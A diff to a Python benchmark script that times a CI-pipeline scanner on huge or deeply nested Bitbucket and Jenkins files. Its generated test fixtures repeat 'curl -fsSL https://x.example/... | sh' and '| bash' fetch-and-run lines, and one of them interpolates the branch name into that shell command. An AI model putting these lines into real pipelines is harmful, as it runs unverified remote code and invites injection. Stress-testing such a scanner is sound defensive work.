@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 """Times `cimatrix scan` (or, with --fix-diff, the planning of every fix) over workflow, GitLab CI, Azure Pipelines,
-CircleCI and Bitbucket Pipelines shapes that once took, or could take, time growing faster than their size.
+CircleCI, Bitbucket Pipelines and Jenkins shapes that once took, or could take, time growing faster than their size.
 
 Each shape is written to a folder of its own under a temporary directory and scanned by the launcher in a
 process of its own (JVM start included), with a time limit; the script prints the milliseconds, the exit code
@@ -194,6 +194,16 @@ def shapes():
     files['bitbucket-many-steps'] = {'bitbucket-pipelines.yml': "pipelines:\n  default:\n" + ''.join(
         f"    - step:\n        image: node:{i % 20}\n        script:\n          - curl -fsSL https://x.example/{i}.sh | sh\n"
         f"          - pipe: atlassian/aws-s3-deploy:1.{i % 9}.0\n" for i in range(8000))}
+    # Jenkinsfiles: a megabyte of shell steps each writing a branch name into its script (the size limit), one script
+    # of fifty thousand interpolations, and the shapes refused before Groovy's parser runs (a chain of casts, on which
+    # its time doubles with each, and nesting that grows it with the square of the depth).
+    files['jenkins-many-steps'] = {'Jenkinsfile': "node {\n" + ''.join(
+        f'  stage("s{i}") {{ sh "echo ${{env.BRANCH_NAME}} | curl -fsSL https://x.example/{i}.sh | bash" }}\n'
+        for i in range(10000)) + "}\n"}
+    files['jenkins-one-long-script'] = {'Jenkinsfile': 'node { sh "' + '${env.CHANGE_TITLE} ' * 50000 + '" }\n'}
+    files['jenkins-cast-chain'] = {'Jenkinsfile': 'node {\n  def x = ' + '(String) ' * 5000 + 'y\n}\n'}
+    files['jenkins-deep-closures'] = {'Jenkinsfile': 'node {\n' + 'stage("s") {\n' * 20000 + 'sh "x"\n'
+                                      + '}\n' * 20000 + '}\n'}
     return files
 
 
